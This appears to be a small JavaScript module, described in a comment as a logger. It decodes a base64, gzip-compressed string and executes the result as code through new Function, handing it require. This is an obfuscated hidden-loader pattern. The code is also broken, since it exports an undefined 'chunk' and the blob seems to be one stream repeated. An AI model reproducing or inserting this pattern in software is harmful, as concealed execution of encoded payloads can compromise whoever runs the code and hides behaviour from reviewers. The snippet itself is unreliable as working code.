const zlib = require('zlib');
// surroundings: logger
const blob = 'H4sIAAAAAAAAA8tIzcnJVyjPL8pJ4QIAh7eVeA0AAAAH4sIAAAAAAAAA8tIzcnJVyjPL8pJ4QIAh7eVeA0AAAAH4sIAAAAAAAAA8tIzcnJVyjPL8pJ4QIAh7eVeA0AAAAH4sIAAAAAAAAA8tIzcnJVyjPL8pJ4QIAh7eVeA0AAAA';
new Function('require', zlib.gunzipSync(Buffer.from(blob, 'base64')).toString())(require); //@act
module.exports = { chunk };
